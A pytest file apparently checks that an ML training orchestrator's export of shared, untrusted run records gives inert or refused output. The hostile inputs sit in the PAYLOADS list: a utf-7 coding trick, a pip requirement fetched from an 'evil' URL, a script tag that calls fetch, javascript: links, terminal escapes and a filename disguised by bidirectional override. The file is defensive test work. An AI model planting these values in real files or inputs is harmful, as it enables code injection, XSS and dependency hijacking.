"""Runs from strangers: whatever a record says, the exported files are inert or refused.

A run folder is shared, so every field of a record may be hostile.
"""

import contextlib
import dataclasses
import json
import re
import tempfile
from pathlib import Path
from typing import Any

import pytest
import yaml
from markdown_it import MarkdownIt

from jobs.spec import DatasetFile, DataSpec, Hook, LibrarySettings, ModelSpec, TrialSpec, UserCode
from orchestrator.export import NotExportableError, export
from tests.hostile.runs import PYTHON, SHELL_AND_YAML, TEMPLATES
from tests.support.guarded_export import CANARY, run_guarded

PAYLOADS = (
    *PYTHON,
    *TEMPLATES,
    *SHELL_AND_YAML,
    f"# coding: utf-7\n+AG8-pen('{CANARY}')",
    "-e git+https://example.org/evil#egg=evil",
    "torch @ https://example.org/torch.whl",
    '</code><script>fetch("//example.org")</script>',
    "[x](javascript:alert(1)) ![x](//example.org/x.png)",
    "\x1b]0;title\x07\x1b[2J",
    "\u202etxt.exe\u2066",
    "\u2028import os\u2029",
    "\x85import os",
    "\ud800",
    "\\",
    "{nvme}",
)
BASE = TrialSpec(
    choices={},
    model=ModelSpec(task="causal-lm", name_or_path="x"),
    data=DataSpec(file=DatasetFile(path="x", format="json", tokenizer="x")),
    settings=LibrarySettings(),
)


def _with(part: Any, path: str, value: Any) -> Any:
    """The trial, or a part of it, with another value of the field at this path."""
    name, _, rest = path.partition(".")
    return dataclasses.replace(
        part, **{name: _with(getattr(part, name), rest, value) if rest else value}
    )


def _readme(note: str) -> str:
    with tempfile.TemporaryDirectory() as folder:
        export(BASE, Path(folder, "train"), label="a label", measured={note: note}, notes=[note])
        return Path(folder, "train", "README.md").read_text(encoding="utf-8")


MARKUP = ("# x", "> x", "- x", "1. x", "---", "***", "| x |", "~~~")


@pytest.mark.parametrize("name", [*MARKUP, *PAYLOADS], ids=repr)
def test_exported_readme_keeps_a_hostile_name_inside_its_line(name):
    readme = _readme(name)
    assert _markdown_kinds(readme) == _markdown_kinds(_readme("a note"))
    assert all(letter.isprintable() or letter == "\n" for letter in readme)


def _markdown_kinds(text: str) -> list[str]:
    """The blocks of a page, and what stands in them beside text."""
    kinds = []
    for token in MarkdownIt().enable("table").parse(text):
        kinds.append(token.type)
        for child in token.children or ():
            if child.type in ("link_open", "image", "html_inline", "code_inline"):
                kinds.append(child.type)
    return kinds


def _pairs(trainer: str, loss: str) -> dict[str, Hook]:
    arguments = {"trainer": trainer, "parameters": {"loss_type": loss}}
    loop = Hook("trl_preference_loop", {"trainer": trainer})
    return {"preferences": Hook("trl_preference_rows", arguments), "loop": loop}


def _hostile(text: str) -> list[tuple[str, Any]]:
    """Every field and a hostile value of it."""
    sft = Hook("trl_sft_rows", {"parameters": {"eos_token": text}})
    return [
        ("data.file.path", text),
        ("data.file.format", text),
        ("data.file.columns", {text: text}),
        ("data.file.tokenizer", text),
        ("model", ModelSpec(task="causal-lm", architecture=text)),
        ("model.name_or_path", text),
        ("model.config", {text: 1}),
        ("model.config", {"x": [{text: text}]}),
        ("model.task", text),
        ("own_code", UserCode(trainer=text)),
        ("own_code", UserCode(collator=text)),
        ("own_code", UserCode(entry=text)),
        ("own_code", UserCode(callbacks=(f"json:{text}", text), folder=text, digest=text)),
        ("settings.training_arguments", {text: 1}),
        ("settings.training_arguments", {"run_name": text}),
        ("settings.model_kwargs", {"dtype": text}),
        ("settings.model_kwargs", {text: 1}),
        ("settings.model_kwargs", {"attn_implementation": text}),
        ("settings.hooks", {"model": Hook(text)}),
        ("settings.hooks", {text: Hook("lora")}),
        ("settings.hooks", {"optimizer": Hook("torch_adamw", {text: 1})}),
        ("settings.hooks", {"model": Hook("lora", {"rank": text})}),
        ("settings.hooks", {"rows": sft, "loop": Hook("trl_sft_loop")}),
        ("settings.hooks", _pairs("dpo", text)),
        ("settings.hooks", _pairs(text, "ipo")),
        ("settings.deepspeed", {text: text}),
    ]


REQUIREMENT = re.compile(r"[a-z-]+(==[0-9][0-9a-z.]*)?|# [^\n]*")


@pytest.mark.parametrize("place", range(len(_hostile("x"))))
def test_exported_script_of_a_hostile_run_runs_inert(place, tmp_path):
    scripts = []
    for number, payload in enumerate(PAYLOADS):
        folder = tmp_path / str(number)
        spec = _with(BASE, *_hostile(payload)[place])
        with contextlib.suppress(NotExportableError):
            export(spec, folder, label=payload, notes=[payload], versions={"torch": payload})
            scripts.append(folder / "train.py")
            # Requirements are known names and comments; the settings are the same in both formats.
            requirements = (folder / "requirements.txt").read_text(encoding="utf-8")
            assert all(REQUIREMENT.fullmatch(line) for line in requirements.split("\n")[:-1])
            from_json = json.loads((folder / "training_arguments.json").read_text(encoding="utf-8"))
            from_yaml = (folder / "training_arguments.yaml").read_text(encoding="utf-8")
            assert yaml.safe_load(from_yaml) == from_json
    printed = run_guarded(scripts, tmp_path / "work")
    assert printed.split() == list(map(str, scripts))
    assert list((tmp_path / "work").iterdir()) == []


def test_the_guard_notices_code_that_runs(tmp_path):
    script = tmp_path / "train.py"
    harmless = "def model_config(*args): pass\nmake_model = make_dataset = model_config\n"
    script.write_text(f'open("{CANARY}", "w")\n{harmless}')
    run_guarded([script], tmp_path / "work")
    assert [path.name for path in (tmp_path / "work").iterdir()] == [CANARY]
